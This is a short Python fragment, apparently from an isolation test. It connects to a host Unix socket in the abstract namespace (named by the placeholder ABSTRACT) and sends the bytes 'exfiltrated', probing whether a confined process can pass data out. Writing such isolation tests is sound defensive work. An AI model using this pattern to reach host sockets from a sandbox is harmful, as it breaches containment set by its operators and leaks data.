# a connection to the host's unix socket ABSTRACT, of the abstract namespace, and a write
import socket
s = socket.socket(socket.AF_UNIX)
s.settimeout(2)
s.connect(ABSTRACT)
s.sendall(b'exfiltrated')
